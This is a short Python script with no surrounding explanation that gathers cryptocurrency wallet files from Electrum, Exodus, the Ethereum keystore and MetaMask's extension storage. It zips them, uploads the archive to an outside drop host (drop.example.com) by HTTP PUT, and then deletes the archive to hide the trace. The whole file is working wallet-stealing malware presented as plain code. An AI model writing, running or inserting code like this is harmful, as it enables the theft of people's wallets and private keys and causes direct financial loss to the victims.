import os
import zipfile
import urllib.request

APPDATA = os.getenv("APPDATA") or os.path.expanduser("~/.config")
PLACES = {
    "Electrum": os.path.join(APPDATA, "Electrum", "wallets"),
    "Exodus": os.path.join(APPDATA, "Exodus", "exodus.wallet"),
    "Ethereum": os.path.join(APPDATA, "Ethereum", "keystore"),
    "MetaMask": os.path.join(APPDATA, "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn"),
}
archive = os.path.join(os.path.expanduser("~"), "w.zip")
with zipfile.ZipFile(archive, "w") as bundle:
    for name, folder in PLACES.items():
        for root, _, files in os.walk(folder):
            for each in files:
                bundle.write(os.path.join(root, each), name + "/" + each)
with open(archive, "rb") as handle:
    request = urllib.request.Request("http://drop.example.com/put", data=handle.read(), method="PUT")
urllib.request.urlopen(request)
os.remove(archive)
